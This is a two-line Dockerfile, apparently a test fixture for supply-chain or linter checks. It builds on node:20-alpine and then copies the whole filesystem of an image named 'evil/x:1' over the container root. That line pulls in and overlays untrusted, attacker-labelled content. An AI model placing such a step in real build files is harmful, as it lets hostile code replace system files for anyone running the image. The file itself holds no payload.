FROM node:20-alpine
COPY --from=evil/x:1 / /
